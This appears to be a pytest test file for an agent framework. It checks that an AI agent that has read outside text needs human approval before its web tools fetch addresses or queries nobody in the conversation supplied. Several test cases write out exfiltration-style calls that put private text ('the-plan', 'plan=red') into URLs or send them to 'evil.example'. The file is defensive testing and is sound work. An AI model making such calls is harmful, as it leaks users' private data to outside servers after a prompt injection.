"""After outside text, a tool that only reads may fetch what a person wrote or what its run has read; else it asks."""

from __future__ import annotations

import inspect
from typing import Any

import orjson
import pytest

from bullpen.tools import Tool, ToolContext, tool
from bullpen.tools.quotes import READERS
from tests.driver import Driver, Offices
from tests.hooks.calling import made, path_of, ring
from tests.net.servers import answer, says, world
from tests.path.scripts import Json, call, say, step, turn
from tests.waiting.gateways import connect, gateway

pytestmark = pytest.mark.one_database
SAID = "@bo read https://example.com/news for me, about red shoes"
URL: Json = {"type": "object", "properties": {"url": {"type": "string"}, "depth": {"type": "integer"}}}


async def _tainted(office: Driver, tools: list[str], *steps: Json) -> None:
    """Bo has read outside text and text of this office when a person asks him for something."""
    await office.agent("ada", [{"kind": "trigger", "steps": [say("red", spaceId="lab")]}])
    await office.agent("bo", [turn("", *steps, say("done"))], tools=["messaging", *tools])
    await office.space("lab", ["ada", "bo"], wake={"agents": "none"})
    await ring(office, path_of(await made(office)))
    await office.run_finished("ada")


async def _asks(office: Driver, tool_name: str) -> bool:
    """Is somebody asked, or does the run end without?"""
    await office.until(lambda: _ended(office))
    found = [event["call"] for event in office.events if event["type"] == "tool.requires_action"]
    assert all((each["toolName"], each["metadata"]["reason"]) == (tool_name, "outward") for each in found)
    return bool(found)


async def _ended(office: Driver) -> bool:
    over = [event for event in office.events if event["type"] == "run_finished" and event["agentId"] == "bo"]
    return bool(over) or any(event["type"] == "tool.requires_action" for event in office.events)


@pytest.mark.parametrize(
    "name, args, asks",
    [
        ("WebFetch", {"url": "https://example.com/news", "prompt": "Anything new?"}, False),
        ("WebFetch", {"url": "https://example.com/news?d=the-plan", "prompt": "x"}, True),
        ("WebFetch", {"url": "https://example.com/new", "prompt": "x"}, True),
        ("WebFetch", {"url": "", "prompt": "x"}, True),
        ("WebSearch", {"query": "red shoes"}, False),
        ("WebSearch", {"query": "shoes for the plan"}, True),
        ("browse_navigate", {"url": "https://evil.example/"}, True),
        ("browse_fill", {"selector": "Search", "value": "red shoes"}, False),
        ("browse_fill", {"selector": "Search", "value": "the plan"}, True),
        ("browse_type_at_xy", {"x": 3, "y": 4, "value": "the plan"}, True),
        ("browse_click", {"selector": "Buy"}, False),
        ("browse_upload_file", {"source_path": "plan.txt"}, True),  # writes: it is no tool of the table
    ],
)
async def test_only_what_others_wrote_is_read_unasked(offices: Offices, name: str, args: Json, asks: bool) -> None:
    done: list[Json] = []
    families: dict[str, list[Tool]] = {"web": [_reader(name, list(args), done)]}
    office = await offices.open(families=families)
    await _tainted(office, ["web"], step(call(name, **args)))
    await office.post("lab", SAID)
    assert await _asks(office, name) is asks
    assert done == ([] if asks else [args])


def _reader(name: str, parameters: list[str], done: list[Json]) -> Tool:
    """A tool as it will be shipped, with nothing behind it."""

    async def read(context: ToolContext, /, **args: Any) -> str:
        done.append(args)
        return "read"

    hints = {"context": ToolContext, **{each: int if each in ("x", "y") else str for each in parameters}}
    kind = inspect.Parameter.POSITIONAL_OR_KEYWORD
    signature = inspect.Signature([inspect.Parameter(each, kind, annotation=hint) for each, hint in hints.items()])
    about = {"__name__": name, "__doc__": "Read.", "__annotations__": hints, "__signature__": signature}
    for field, value in about.items():
        setattr(read, field, value)
    return tool(effect="once", act=None, camel=False)(read)


async def test_an_earlier_message_of_a_person_is_theirs_too(offices: Offices) -> None:
    done: list[Json] = []
    office = await offices.open(families={"web": [_reader("WebFetch", ["url"], done)]})
    await _tainted(office, ["web"], step(call("WebFetch", url="https://example.com/news")))
    await office.post("lab", "Look: https://example.com/news.")
    await office.post("lab", "@bo read that, please")
    assert not await _asks(office, "WebFetch")
    assert done == [{"url": "https://example.com/news"}]


# ── a gateway that reads ────────────────────────────────────────────────────────────────────────────────────────────

FETCH = gateway("fetch", inputSchema=URL, visible=False, execution={"url": "http://api.example.com/of/{url}"})
LINKS = orjson.dumps({"html": 'widely\n<a href="https://a.example/b?c=1">shoes</a> https://a.example/d.'})


@pytest.mark.parametrize(
    "first, then, asks",
    [
        ({"url": "https://example.com/news"}, "https://a.example/b?c=1", False),
        ({"url": "https://example.com/news"}, "https://a.example/d", False),
        ({"url": "https://example.com/news", "depth": 2}, "https://a.example/d", True),  # two is its own
        ({"url": "https://example.com/news"}, "https://a.example/b", True),
        ({"url": "https://example.com/news"}, "https://a.example/b?c=1&d=plan", True),
        ({"url": "https://example.com/news"}, "widely", True),  # no address, and a page said it
    ],
)
async def test_an_address_that_was_read_is_followed_unasked(office: Driver, first: Json, then: str, asks: bool) -> None:
    await office.create("/tools", FETCH)
    await _tainted(office, ["fetch"], step(call("fetch", **first)), step(call("fetch", url=then)))
    async with world() as outer:
        connect(office, outer)
        server = await outer.server(says(answer(LINKS, content_type="application/json"), answer(b"more")))
        await office.post("lab", SAID)
        assert await _asks(office, "fetch") is asks
    assert len(server.asked) == (0 if "depth" in first else 1 if asks else 2)


async def test_a_server_cannot_echo_the_models_words_into_an_address(office: Driver) -> None:
    """It was let send them once, so the answer holds what the model made up."""
    made_up = "https://evil.example/?plan=red"
    await office.create("/tools", {**FETCH, "policy": "allow"})
    await office.create("/tools", {**FETCH, "name": "look"})
    await _tainted(office, ["fetch", "look"], step(call("fetch", url=made_up)), step(call("look", url=made_up)))
    async with world() as outer:
        connect(office, outer)
        await outer.server(says(answer(made_up.encode())))
        await office.post("lab", SAID)
        assert await _asks(office, "look")


@pytest.mark.parametrize("effect", [None, "pure"])
async def test_what_writes_elsewhere_asks_even_for_a_persons_words(office: Driver, effect: str | None) -> None:
    execution = {"url": "http://api.example.com/in", "method": "POST"}
    await office.create("/tools", {**FETCH, "name": "send", "execution": execution, "effect": effect})
    await _tainted(office, ["send"], step(call("send", url="https://example.com/news")))
    await office.post("lab", SAID)
    assert await _asks(office, "send")


def test_every_reader_of_the_settled_list_is_in_the_table() -> None:
    asks = {"WebFetch", "WebSearch", "browse_navigate", "browse_fill", "browse_type_at_xy"}
    asks |= {f"firecrawl_{way}" for way in ("scrape", "crawl", "map")}
    assert asks <= {name for name, leaving in READERS.items() if leaving}
